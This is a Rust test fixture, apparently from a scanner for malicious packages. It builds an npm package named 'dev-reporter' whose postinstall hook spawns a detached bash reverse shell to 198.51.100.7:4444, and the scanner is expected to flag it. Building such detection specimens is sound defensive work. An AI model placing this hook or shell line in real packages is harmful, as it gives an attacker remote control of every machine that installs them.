//! An npm `postinstall` that leaves behind a shell whose input and output are a connection.
//!
//! Must be found: the reverse shell.

use apa_model::Ecosystem;

use crate::{Expect, NpmPackage, Specimen};

const REPORT: &str = r#"const { spawn } = require('child_process');
const line = 'exec 5<>/dev/tcp/198.51.100.7/4444 && exec sh -i <&5 >&5 2>&5';
spawn('bash', ['-c', line], { detached: true, stdio: 'ignore' }).unref();
"#;

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("dev-reporter", "1.0.4")
        .script("postinstall", "node report.js")
        .file("report.js", REPORT);
    Specimen {
        name: "npm-reverse-shell",
        ecosystem: Ecosystem::Npm,
        filename: package.filename(),
        bytes: package.build(),
        served: Vec::new(),
        expect: Expect::malicious(&["reverse-shell"]),
    }
}
